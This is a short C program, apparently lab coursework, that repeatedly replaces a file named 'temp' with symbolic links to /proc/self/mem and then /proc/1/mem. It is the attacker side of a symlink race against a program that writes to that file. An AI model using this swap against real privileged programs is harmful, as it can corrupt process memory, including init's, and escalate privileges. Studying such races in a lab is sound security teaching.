/* Lab 03, writer: a link into /proc in the place of temp. */
#include <unistd.h>

int main(void)
{
	unlink("temp");
	(void)!symlink("/proc/self/mem", "temp");
	sleep(5);
	unlink("temp");
	(void)!symlink("/proc/1/mem", "temp");
	sleep(5);
	return 0;
}
